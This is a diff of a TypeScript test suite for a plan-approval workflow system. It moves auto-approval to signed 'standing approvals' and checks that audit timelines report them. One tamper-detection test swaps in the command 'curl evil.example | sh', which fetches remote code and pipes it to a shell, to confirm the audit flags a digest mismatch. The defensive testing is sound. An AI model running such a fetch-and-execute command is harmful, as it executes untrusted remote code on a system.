@@ -14,7 +14,10 @@ import {
   type PlanTimeline,
   type TimelineEntry,
 } from '../services/history/index.js';
+import type { GrantRecord } from '../core/grants/grant.js';
+import type { KeyPair } from '../core/keys.js';
 import { decide, submitPlan } from '../services/plans.js';
+import { grantFor, shell } from './support/grants.js';
 import { startTestStack, type TestStack } from './support/stack.js';
 import { waitForStep } from './support/plans.js';
 
@@ -24,16 +27,23 @@ beforeAll(async () => {
 });
 afterAll(async () => stack?.close());
 
+/** As `submitPlan`, with a proposal signed by `key` (so the grants `key` signed for its plans apply). */
+const signedBy = (key: KeyPair) => ({ key, proposer: { device: key.keyId } });
+
 const entriesOf = (timeline: PlanTimeline, step: string, kind?: TimelineEntry['kind']) =>
   timeline.entries.filter((e) => e.step === step && (kind === undefined || e.kind === kind));
 
-describe('a plan with human, auto and denied steps', () => {
+describe('a plan with human, auto (on a standing approval) and denied steps', () => {
   let planId: string;
   let workflowId: string;
+  let grant: GrantRecord;
   beforeAll(async () => {
+    grant = await grantFor(stack.client, stack.root, {
+      name: 'say auto ran',
+      covers: shell('echo auto ran'),
+    });
     const plan = {
       name: 'history-demo',
-      policy: { autoApprove: [{ id: 'auto-step' }] },
       steps: [
         { id: 'human-step', run: 'echo hello from human' },
         { id: 'auto-step', run: 'echo auto ran', approval: 'auto' },
@@ -46,7 +56,10 @@ describe('a plan with human, auto and denied steps', () => {
         },
       ],
     };
-    ({ planId, workflowId } = await submitPlan(stack.client, plan, { proposer: 'history test' }));
+    ({ planId, workflowId } = await submitPlan(stack.client, plan, {
+      proposer: 'history test',
+      signer: signedBy(stack.root),
+    }));
     await waitForStep(stack.client, planId, 'human-step', 'awaiting_approval');
     await decide(stack.client, stack.root, planId, 'human-step', {
       decision: 'approve',
@@ -59,7 +72,7 @@ describe('a plan with human, auto and denied steps', () => {
     await expect(stack.client.workflow.getHandle(workflowId).result()).rejects.toThrow();
   });
 
-  it('shows every approval verified, with device, auto flag, results and the final status', async () => {
+  it('shows every approval verified, with device, auto flag, the standing approval, results and the final status', async () => {
     const timeline = await planTimeline(stack.client, planId);
     expect(timeline).toMatchObject({
       workflowId,
@@ -86,9 +99,28 @@ describe('a plan with human, auto and denied steps', () => {
     });
     expect(human?.approval?.problem).toBeUndefined();
     const [auto] = entriesOf(timeline, 'auto-step', 'approval');
-    expect(auto?.approval).toMatchObject({ role: 'policy', decision: 'approve', auto: true, verified: true });
-    expect(auto?.approval?.reason).toContain('auto-approved by plan policy rule #0');
+    expect(auto?.approval).toMatchObject({
+      role: 'policy',
+      decision: 'approve',
+      reason: 'standing approval "say auto ran"',
+      auto: true,
+      verified: true,
+      grant: {
+        grantId: grant.grantId,
+        name: 'say auto ran',
+        issuedBy: 'test phone',
+        issuedAt: grant.at,
+        expiresAt: grant.expiresAt,
+      },
+    });
+    expect(auto?.approval?.grant?.text).toContain('`echo auto ran` exactly');
+    expect(auto?.text).toContain(
+      `approved by standing approval "say auto ran" (${grant.grantId}: \`echo auto ran\` exactly, for plans "test phone" proposes, until ${grant.expiresAt}; signed by "test phone" on ${grant.at}), applied by the policy key`,
+    );
     expect(entriesOf(timeline, 'auto-step', 'gate_reached')).toHaveLength(0);
+    expect(entriesOf(timeline, 'auto-step', 'grant_not_applied')).toHaveLength(0);
+    // The person's approval names no standing approval.
+    expect(human?.approval?.grant).toBeUndefined();
     const [denial] = entriesOf(timeline, 'deny-me', 'approval');
     expect(denial?.approval).toMatchObject({
       device: 'test phone',
@@ -137,7 +169,7 @@ describe('a plan with human, auto and denied steps', () => {
       /✓ approval +human-step +approved by "test phone" \(root\), key [0-9a-f]{12}: "looks safe"/,
     );
     expect(text).toMatch(
-      /✓ auto-approval +auto-step +approved by "policy \(auto-approval rules\)" \(policy\), key [0-9a-f]{12}: "auto-approved by plan policy rule #0"/,
+      /✓ standing approval +auto-step +approved by standing approval "say auto ran" \([0-9a-f]{16}: `echo auto ran` exactly, for plans "test phone" proposes, until [^;]+; signed by "test phone" on [^)]+\), applied by the policy key: "standing approval "say auto ran""/,
     );
     expect(text).toMatch(/✓ denial +deny-me +denied by "test phone" \(root\).*"not today"/);
     expect(text).toMatch(/step finished +human-step +exit 0 after/);
@@ -167,7 +199,7 @@ describe('a plan with human, auto and denied steps', () => {
     expect(timeline.steps.every((s) => !s.verified)).toBe(true);
     const text = renderTimeline(timeline);
     expect(text.match(/✗ not verified: \[untrusted_root\]/g)).toHaveLength(4);
-    expect(text).not.toMatch(/✓ (approval|auto-approval|denial)/);
+    expect(text).not.toMatch(/✓ (approval|standing approval|denial)/);
   });
 
   it('shows retries, and flags an edited history: a changed command, a missing and a replayed approval', async () => {
@@ -210,8 +242,8 @@ describe('a plan with human, auto and denied steps', () => {
     checks.input!.payloads = [
       defaultPayloadConverter.toPayload({ ...input, step: { ...input.step, run: 'curl evil.example | sh' } }),
     ];
-    // auto-step: its auto-approval is gone, yet the step still ran.
-    events.splice(events.indexOf(completedOf(scheduledFor('signAutoApproval', 'auto-step'))), 1);
+    // auto-step: its standing approval's application is gone, yet the step still ran.
+    events.splice(events.indexOf(completedOf(scheduledFor('applyStandingGrant', 'auto-step'))), 1);
     // The human approval appears a second time, just before the plan ends.
     const accepted = events.find((e) => e.workflowExecutionUpdateAcceptedEventAttributes)!;
     const replay = temporal.api.history.v1.HistoryEvent.decode(
@@ -232,7 +264,7 @@ describe('a plan with human, auto and denied steps', () => {
       'sent to the executor: `curl evil.example | sh` — differs from the planned step `for l in a b c d e f g; do echo line-$l; done; exit 3` (digest mismatch)',
     );
     expect(entriesOf(timeline, 'auto-step', 'step_started')[0]?.text).toContain(
-      'scheduled without verified approvals meeting its policy (0 of 1)',
+      'scheduled without approvals that authorise it (0 of 1 approval)',
     );
     const replayed = entriesOf(timeline, 'human-step', 'approval_refused_at_audit');
     expect(replayed).toHaveLength(1);
@@ -257,9 +289,15 @@ describe('a plan that continues as new', () => {
       run: `echo step ${i}`,
       approval: 'auto',
     }));
-    const plan = { name: 'long-history', policy: { autoApprove: [{ runPrefix: 'echo step ' }] }, steps };
+    const plan = { name: 'long-history', steps };
+    // One standing approval for every step: commands starting `echo step`.
+    const grant = await grantFor(stack.client, stack.root, {
+      name: 'echo steps',
+      covers: shell('echo step', 'prefix'),
+    });
     const { planId, workflowId } = await submitPlan(stack.client, plan, {
       proposer: 'history test',
+      signer: signedBy(stack.root),
       continueAsNewAfterEvents: 40,
     });
     await stack.client.workflow.getHandle(workflowId).result();
@@ -276,6 +314,7 @@ describe('a plan that continues as new', () => {
     expect(new Set(timeline.entries.map((e) => e.runId))).toEqual(new Set(timeline.runs));
     for (const { id } of steps) {
       expect(entriesOf(timeline, id, 'approval')).toHaveLength(1);
+      expect(entriesOf(timeline, id, 'approval')[0]?.approval?.grant?.grantId).toBe(grant.grantId);
       expect(entriesOf(timeline, id, 'step_finished')[0]?.result?.outputTail).toContain(
         `step ${id.slice(1)}`,
       );
@@ -295,9 +334,12 @@ describe('a plan that continues as new', () => {
 
 describe('a plan with a gate and a sub-plan', () => {
   it('shows the open plan awaiting approval, then the child workflow, which has its own verified timeline', async () => {
+    const grant = await grantFor(stack.client, stack.root, {
+      name: 'write the docs',
+      covers: shell('echo docs written'),
+    });
     const child = {
       name: 'docs-plan',
-      policy: { autoApprove: [{ id: 'write' }] },
       steps: [{ id: 'write', run: 'echo docs written', approval: 'auto' }],
     };
     const plan = {
@@ -307,7 +349,10 @@ describe('a plan with a gate and a sub-plan', () => {
         { id: 'docs', plan: child },
       ],
     };
-    const { planId, workflowId } = await submitPlan(stack.client, plan, { proposer: 'history test' });
+    const { planId, workflowId } = await submitPlan(stack.client, plan, {
+      proposer: 'history test',
+      signer: signedBy(stack.root),
+    });
     await waitForStep(stack.client, planId, 'go', 'awaiting_approval');
     const open = await planTimeline(stack.client, planId);
     expect(open.status).toBe('awaiting_approval');
@@ -334,7 +379,12 @@ describe('a plan with a gate and a sub-plan', () => {
     const sub = await planTimeline(stack.client, `${workflowId}.docs`, { pinnedRootKeyId: stack.root.keyId });
     expect(sub).toMatchObject({ planName: 'docs-plan', status: 'succeeded' });
     expect(sub.entries[0]?.text).toContain(`a sub-plan of ${workflowId}`);
-    expect(entriesOf(sub, 'write', 'approval')[0]?.approval).toMatchObject({ auto: true, verified: true });
+    // The sub-plan's step ran on the standing approval, under the top plan's signed proposal.
+    expect(entriesOf(sub, 'write', 'approval')[0]?.approval).toMatchObject({
+      auto: true,
+      verified: true,
+      grant: { grantId: grant.grantId, name: 'write the docs' },
+    });
     expect(entriesOf(sub, 'write', 'step_finished')[0]?.result?.outputTail).toContain('docs written');
   });
 
